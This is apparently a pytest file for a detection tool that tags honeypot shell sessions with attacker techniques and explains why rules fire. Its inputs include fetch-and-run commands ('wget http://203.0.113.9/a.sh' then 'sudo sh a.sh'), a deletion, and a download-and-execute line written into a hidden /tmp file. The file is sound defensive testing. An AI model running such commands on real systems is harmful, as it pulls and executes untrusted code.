"""Why a rule fires on a command or does not: parts of its condition, the line behind a fact, what was replaced."""

from __future__ import annotations

import pytest

from decnet.home import packaged_rules_dir
from decnet.ttp.explaining import Explained, explained
from decnet.ttp.offline import OfflineTagger
from decnet.ttp.offline_sessions import received_session

TAGGER = OfflineTagger(packaged_rules_dir())


def of(rule: str, *commands: str) -> list[Explained]:
    session = received_session({"session": "s", "commands": list(commands)})
    return list(explained(TAGGER, TAGGER.index.by_id[rule], session))


def test_a_fact_is_told_with_the_line_that_it_rests_on() -> None:
    fetch, run, other = of("R0901", "wget http://203.0.113.9/a.sh", "sudo sh a.sh", "sh b.sh")
    assert [one["fires"] for one in (fetch, run, other)] == [False, True, False]
    assert [one["line"] for one in (fetch, run, other)] == [1, 2, 3]
    assert run["condition"]["found"] == "fetched"
    assert run["condition"]["because"] == "fetched by line 1: wget http://203.0.113.9/a.sh"
    assert run["techniques"] == ["T1059.004"]
    assert (other["condition"]["asks"], other["condition"]["holds"]) == ("exec.origin in ['fetched']", False)


def test_each_part_is_told_of_the_command_of_which_most_holds() -> None:
    (one,) = of("R0047", "sudo rm -f /home/a.sh")
    assert not one["fires"], "nothing was done before"
    assert [(part["asks"], part["holds"]) for part in one["condition"]["parts"]] == [
        ("any of", True),
        ("not", True),
        ("not", False),
    ]
    (idle,) = one["condition"]["parts"][2]["parts"]
    assert (idle["asks"], idle["holds"]) == ("session.idle is there", True)
    assert one["view"] == "rm -f /home/a.sh"


def test_what_another_rule_knows_better_is_named() -> None:
    (probe,) = of("R0078", "echo 1 > /tmp/.w")
    assert probe["replaced"] == {"T1564.001": ["R0920"]}
    assert "T1564.001" not in probe["techniques"]
    (kept,) = of("R0078", "echo 'wget http://203.0.113.9/x; sh x' > /tmp/.w")
    assert kept["replaced"] == {}
    assert "T1564.001" in kept["techniques"]


@pytest.mark.parametrize("text", ["", "\x00\ud800", "a" * 5000, "$((", "'"])
def test_any_line_is_explained(text: str) -> None:
    for rule in ("R0901", "R0047", "R0150"):
        (one,) = of(rule, text)
        assert one["fires"] is False
